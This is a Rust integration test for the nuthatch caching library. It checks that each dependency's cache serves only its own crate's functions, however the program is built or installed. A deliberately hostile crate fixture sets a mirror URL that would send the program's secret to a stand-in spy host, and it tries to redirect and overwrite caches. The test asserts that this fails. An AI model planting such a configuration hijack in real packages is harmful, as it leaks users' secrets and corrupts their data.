//! Several dependencies with a lake each, two of them versions of one crate, one below another and
//! hostile: each lake serves its own crate's functions and no others. The program is run as Cargo
//! runs it, with remapped paths, and as `cargo install` leaves it, by a user who may only read.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::child::{open_folder, powerless};
use crate::files;
use crate::shared_lake::{cargo_for, copy, run, run_in, target};

/// Package, version, folder, and what else stands in its manifest, configuration and source.
const CRATES: [(&str, &str, &str, &str, &str, &str); 4] = [
    ("station", "1.0.0", "station1", "", "", ""),
    ("station", "2.0.0", "station2", "", "", ""),
    ("base", "1.0.0", "base", "", "", ""),
    // It wants the program's root, local location and mode, and to hear the program's secrets.
    (
        "over",
        "1.0.0",
        "over",
        "base = { path = \"../base\" }\n",
        "cache_mode = \"overwrite\"\nnamespace = \"theirs\"\ndurable = true\n\
         [nuthatch.local]\nfilesystem = \"HERE/stolen\"\n\
         [nuthatch.mirror-spy]\nfilesystem = \"https://spy.example/$PROGRAMS_SECRET\"\n",
        "pub fn attack() -> u32 {
             let _ = nuthatch::set_parameter!(\"filesystem\", \"HERE/stolen\");
             let _ = nuthatch::set_parameter!(\"root.basic.filesystem\", \"HERE/stolen\");
             let _ = nuthatch::set_parameter!(\"cache_mode\", \"overwrite\");
             base::value().unwrap_or_default()
         }\n",
    ),
];

/// A function whose value says which lake it comes from; without `VALUE` it is `none`.
const VALUE: &str = "use nuthatch::prelude::*;\n#[cache]\npub fn value() -> nuthatch::Result<u32> {
    Ok(std::env::var(\"VALUE\").map_or(0, |value| value.parse().unwrap_or_default()))
}\n";

const MAIN: &str = "fn main() -> nuthatch::Result<()> {
    member::configure()?;
    println!(\"station1={}\", station1::value()?);
    println!(\"station2={}\", station2::value()?);
    println!(\"over={}\", over::value()?);
    println!(\"base={}\", over::attack());
    println!(\"app={}\", value()?);
    println!(\"{}\", nuthatch::config()?);
    Ok(())
}\n";

const APP_DEPENDENCIES: &str = "station1 = { package = \"station\", path = \"../station1\" }
station2 = { package = \"station\", path = \"../station2\" }
over = { path = \"../over\" }
member = { path = \"member\" }
";

/// A library of the program's own workspace: what its code sets is the program's.
const MEMBER: &str = "pub fn configure() -> nuthatch::Result<()> {
    nuthatch::set_parameter!(\"grace\", \"3d\")
}
";

struct World(tempfile::TempDir);

impl World {
    /// A repository with the four libraries and the program, which have a lake each. Every lake
    /// holds an entry of every function, with a value that is that lake's own.
    fn new() -> Self {
        let world = Self(open_folder());
        for (package, version, folder, dependencies, configuration, source) in CRATES {
            let lake = world.path("lakes").join(folder);
            let here = |text: &str| text.replace("HERE", world.path("").to_str().unwrap());
            let head = format!("[nuthatch]\nfilesystem = {lake:?}\n");
            world.package(folder, package, version, dependencies);
            world.write(&format!("code/{folder}/nuthatch.toml"), &(head + &here(configuration)));
            let source = VALUE.to_owned() + &here(source);
            world.write(&format!("code/{folder}/src/lib.rs"), &source);
        }
        world.package("app", "app", "1.0.0", APP_DEPENDENCIES);
        world.package("app/member", "member", "1.0.0", "");
        world.change("code/app/member/Cargo.toml", |text| text.replace("[workspace]\n", ""));
        world.write("code/app/member/src/lib.rs", MEMBER);
        world.write("code/app/src/main.rs", &(VALUE.to_owned() + MAIN));
        let face = Path::new(env!("CARGO_MANIFEST_DIR")).join("../crates/nuthatch");
        let face = face.canonicalize().unwrap();
        world.change("code/app/Cargo.toml", |manifest| {
            manifest
                + &format!(
                    "members = [\"member\"]\n[patch.crates-io]\nnuthatch = {{ path = {face:?} }}\n"
                )
        });
        let lock = Path::new(env!("CARGO_MANIFEST_DIR")).join("../Cargo.lock");
        fs::copy(lock, world.path("code/app/Cargo.lock")).unwrap();
        fs::create_dir(world.path("home")).unwrap();
        world
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().canonicalize().unwrap().join(name)
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.path(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn change(&self, name: &str, by: impl FnOnce(String) -> String) {
        let text = fs::read_to_string(self.path(name)).unwrap();
        self.write(name, &by(text));
    }

    fn package(&self, folder: &str, package: &str, version: &str, dependencies: &str) {
        let manifest = format!(
            "[package]\nname = \"{package}\"\nversion = \"{version}\"\nedition = \"2024\"\n\
             publish = false\n[dependencies]\nnuthatch = \"0.1.0\"\n{dependencies}[workspace]\n"
        );
        // Each package is a workspace of its own, as those of other owners are.
        self.write(&format!("code/{folder}/Cargo.toml"), &manifest);
    }

    fn cargo(&self, words: &[&str]) -> Command {
        let mut command = cargo_for(&self.path("home"), &self.path("code/app"));
        command.args(words);
        command
    }

    /// The program, run where no configuration is found.
    fn program(&self, program: &Path) -> Command {
        let mut command = Command::new(program);
        command.env_clear().current_dir(self.path("home")).env("HOME", self.path("home"));
        command.env("PROGRAMS_SECRET", "hunter2");
        command
    }

    /// The same, by somebody who can write nothing but what is below their home.
    fn powerless_program(&self, program: &Path) -> Command {
        powerless(self.program(program), &self.path("home"))
    }

    /// Fills a lake, which is the program's own root here.
    fn fill(&self, lake: &Path, value: usize, program: &Path) {
        let mut command = self.program(program);
        command.env("NUTHATCH_FILESYSTEM", lake).env("VALUE", value.to_string());
        run(command);
    }

    /// What the program has told: a value a function, and its settings.
    fn told(&self, program: &Path) -> (BTreeMap<String, String>, String) {
        let mut command = self.powerless_program(program);
        command.env("NUTHATCH_FILESYSTEM", self.path("home/own"));
        let told = run(command);
        let values = told.lines().filter_map(|line| line.split_once('='));
        let values = values.filter(|(name, _)| !name.contains(' '));
        let owned = |(name, value): (&str, &str)| (name.to_owned(), value.to_owned());
        (values.map(owned).collect(), told.clone())
    }

    fn each_has_its_own(&self, program: &Path, member_is_own: bool) {
        let lakes = files::under(&self.path("lakes"));
        let (values, told) = self.told(program);
        let expected =
            [("station1", "1"), ("station2", "2"), ("base", "3"), ("over", "4"), ("app", "0")];
        for (function, value) in expected {
            assert_eq!(values[function], value, "{function}: {told}");
        }
        let (own, theirs) = told.split_once("# for the functions of").unwrap();
        assert!(!own.contains("stolen") && !own.contains("theirs"), "{told}");
        assert!(!told.contains("hunter2"), "{told}");
        assert!(own.contains("cache_mode = \"write\"  (default)"), "{told}");
        assert_eq!(own.contains("grace = \"3d\""), member_is_own, "{told}");
        for line in ["station 1.0.0", "station 2.0.0", "base 1.0.0", "over 1.0.0"] {
            assert!(told.contains(&format!("# for the functions of {line}")), "{told}");
        }
        assert!(theirs.contains("mirror-base-root.filesystem"), "{told}");
        assert!(!self.path("stolen").exists(), "the hostile crate has got nothing");
        assert_eq!(files::under(&self.path("lakes")), lakes, "nothing is written to a lake");
        let stored = format!("{:?}", files::under(&self.path("home/own")).keys());
        assert!(stored.contains("app.value"), "{stored}");
        for other in ["station.value", "base.value", "over.value"] {
            assert!(!stored.contains(other), "{stored}");
        }
        fs::remove_dir_all(self.path("home/own")).unwrap();
    }

    /// Nobody but the owner can write to a lake, so that a test in which nothing is written means
    /// something.
    fn cannot_write(&self, program: &Path) {
        let lakes = files::under(&self.path("lakes"));
        let mut command = self.powerless_program(program);
        command.env("NUTHATCH_FILESYSTEM", self.path("lakes/new"));
        run(command);
        assert_eq!(files::under(&self.path("lakes")), lakes);
    }

    /// Every package as `cargo package` makes it, in a registry that is a folder, and the program
    /// installed from there.
    fn installed_from_a_registry(&self) -> PathBuf {
        let registry = self.path("registry");
        fs::create_dir(&registry).unwrap();
        let here = |name: &str, version: &str| {
            format!("path = \"{name}\", version = \"{version}\", registry = \"weather\" }}")
        };
        for (folder, by_path) in [
            ("over", "../base"),
            ("app", "../station1"),
            ("app", "../station2"),
            ("app", "../over"),
            ("app", "member"),
        ] {
            let version = if by_path.ends_with('2') { "2.0.0" } else { "1.0.0" };
            let old = format!("path = {by_path:?} }}");
            self.change(&format!("code/{folder}/Cargo.toml"), |manifest| {
                assert!(manifest.contains(&old));
                manifest.replace(&old, &here(by_path, version))
            });
        }
        let source = format!(
            "[registries.weather]\nindex = \"https://weather.invalid/index\"\n\
             [source.weather]\nregistry = \"https://weather.invalid/index\"\n\
             replace-with = \"packages\"\n[source.packages]\nlocal-registry = {registry:?}\n"
        );
        let face = Path::new(env!("CARGO_MANIFEST_DIR")).join("../crates/nuthatch");
        let patch = format!(
            "[patch.crates-io]\nnuthatch = {{ path = {:?} }}\n",
            face.canonicalize().unwrap()
        );
        // Whoever installs has no manifest to say it in.
        self.write("registry.toml", &(source + &patch));
        for (package, version, folder, dependencies, ..) in CRATES {
            self.publish(&registry, package, version, folder, dependencies);
        }
        self.publish(&registry, "member", "1.0.0", "app/member", "");
        self.publish(&registry, "app", "1.0.0", "app", APP_DEPENDENCIES);
        let (at, configuration) = (self.path("from-registry"), self.path("registry.toml"));
        let install = ["install", "--quiet", "--debug", "--offline", "--registry", "weather"];
        let mut command = self.cargo(&["--config", configuration.to_str().unwrap()]);
        command.args(install).arg("--root").arg(&at).arg("app");
        run(command);
        at.join("bin/app")
    }

    fn publish(
        &self,
        registry: &Path,
        package: &str,
        version: &str,
        folder: &str,
        dependencies: &str,
    ) {
        let mut command = cargo_for(&self.path("home"), &self.path("code").join(folder));
        command.arg("--config").arg(self.path("registry.toml"));
        command.args(["package", "--quiet", "--no-verify", "--allow-dirty", "--exclude-lockfile"]);
        run(command);
        let name = format!("{package}-{version}.crate");
        fs::copy(target().join("package").join(&name), registry.join(&name)).unwrap();
        let mut sum = Command::new("sha256sum");
        sum.arg(registry.join(&name));
        let sum = run(sum);
        let of = |line: &str| {
            let (alias, _) = line.split_once(" = ")?;
            let real = if alias.starts_with("station") { "station" } else { alias };
            let version = if alias == "station2" { "2.0.0" } else { "1.0.0" };
            Some(dependency(alias, real, version, None))
        };
        let mut all: Vec<serde_json::Value> = dependencies.lines().filter_map(of).collect();
        let crates_io = "https://github.com/rust-lang/crates.io-index";
        all.push(dependency("nuthatch", "nuthatch", "0.1.0", Some(crates_io)));
        let line = serde_json::json!({
            "name": package, "vers": version, "deps": all, "features": {}, "yanked": false,
            "cksum": sum.split_whitespace().next().unwrap(),
        });
        let folder = match package.len() {
            3 => format!("3/{}", &package[..1]),
            _ => format!("{}/{}", &package[..2], &package[2..4]),
        };
        let index = registry.join("index").join(folder);
        fs::create_dir_all(&index).unwrap();
        let before = fs::read_to_string(index.join(package)).unwrap_or_default();
        fs::write(index.join(package), format!("{before}{line}\n")).unwrap();
    }
}

/// Cargo names what it builds of a workspace by the paths in it, and may take what was built of
/// the same workspace in another folder for this one's, with that folder's paths.
fn forget_builds() {
    for build in fs::read_dir(target().join("debug/.fingerprint")).unwrap() {
        let build = build.unwrap().path();
        let name = build.file_name().unwrap().to_str().unwrap();
        if name.starts_with("member-") || name.starts_with("app-") {
            fs::remove_dir_all(build).unwrap();
        }
    }
}

/// As an index has it.
fn dependency(alias: &str, real: &str, version: &str, registry: Option<&str>) -> serde_json::Value {
    serde_json::json!({
        "name": alias, "package": real, "req": format!("^{version}"), "registry": registry,
        "features": [], "optional": false, "default_features": true, "target": null, "kind": "normal",
    })
}

#[test]
fn each_lake_serves_the_functions_of_its_own_crate_however_the_program_is_built() {
    let world = World::new();
    run(world.cargo(&["build", "--quiet"]));
    let program = world.path("app");
    fs::copy(target().join("debug/app"), &program).unwrap();
    for (value, folder) in ["station1", "station2", "base", "over"].iter().enumerate() {
        // Moved into their places when all are full, so that none is filled from another.
        world.fill(&world.path("filled").join(folder), value + 1, &program);
    }
    fs::rename(world.path("filled"), world.path("lakes")).unwrap();
    let full = format!("{:?}", files::under(&world.path("lakes/base")).keys());
    for function in ["app.value", "base.value", "over.value", "station.value"] {
        assert!(full.contains(function), "every lake holds an entry of every function: {full}");
    }
    // Who is not the owner may only read.
    let permit = |mode: &str| {
        run_in(&world.path(""), Command::new("chmod").args(["-R", mode, "lakes"]));
    };
    permit("a-w");
    world.cannot_write(&program);
    world.each_has_its_own(&program, true);

    // The same sources under another name, so that they are compiled anew, and nuthatch is not.
    let wrapper = world.path("remapping");
    let script = "#!/bin/sh\nrustc=$1; shift\ncase \"$*\" in\n\
                  *--crate-name\\ app*|*--crate-name\\ member*|*--crate-name\\ station*|*--crate-name\\ over*|*--crate-name\\ base*)\n\
                  exec \"$rustc\" \"$@\" --remap-path-prefix=HERE=remapped;;\n\
                  *) exec \"$rustc\" \"$@\";;\nesac\n";
    world.write("remapping", &script.replace("HERE", world.path("").to_str().unwrap()));
    fs::set_permissions(&wrapper, fs::Permissions::from_mode(0o755)).unwrap();
    copy(&world.path("code"), &world.path("kept"));
    for folder in ["station1", "station2", "base", "over", "app", "app/member"] {
        let main = if folder == "app" { "main.rs" } else { "lib.rs" };
        world.change(&format!("code/{folder}/src/{main}"), |source| source + "\n// Anew.\n");
    }
    let mut build = world.cargo(&["build", "--quiet"]);
    build.env("RUSTC_WRAPPER", &wrapper);
    run(build);
    fs::copy(target().join("debug/app"), &program).unwrap();
    world.each_has_its_own(&program, true);

    // From a repository: other crates of what was downloaded are dependencies, unless the program
    // says otherwise.
    let work = world.path("kept");
    let git = |words: &[&str]| run_in(&work, Command::new("git").args(words));
    git(&["init", "--quiet"]);
    git(&["add", "."]);
    let name = ["-c", "user.name=owner", "-c", "user.email=owner@example.org"];
    git(&[&name[..], &["commit", "--quiet", "-m", "Publish the crates"]].concat());
    let url = format!("file://{}", work.display());
    let (at, app) = (world.path("installed"), "app");
    let install = [
        "install",
        "--quiet",
        "--debug",
        "--locked",
        "--git",
        &url,
        "--root",
        at.to_str().unwrap(),
        app,
    ];
    forget_builds();
    run(world.cargo(&install));
    world.each_has_its_own(&at.join("bin/app"), false);

    // From a registry: packages without any folder around them.
    world.each_has_its_own(&world.installed_from_a_registry(), false);
    permit("u+w");
}
